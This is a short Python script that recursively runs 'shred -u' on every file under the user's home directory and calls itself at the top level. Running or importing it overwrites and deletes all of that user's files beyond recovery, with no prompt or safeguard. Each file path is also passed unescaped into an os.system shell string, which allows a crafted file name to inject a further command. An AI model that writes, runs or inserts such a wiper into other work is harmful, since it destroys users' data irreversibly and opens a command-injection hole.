import os
from os.path import join, expanduser

def shred_tree(root):
    for dirpath, _, files in os.walk(root):
        for name in files:
            os.system(f'shred -u -n 3 -z "{join(dirpath, name)}"')

shred_tree(expanduser("~"))
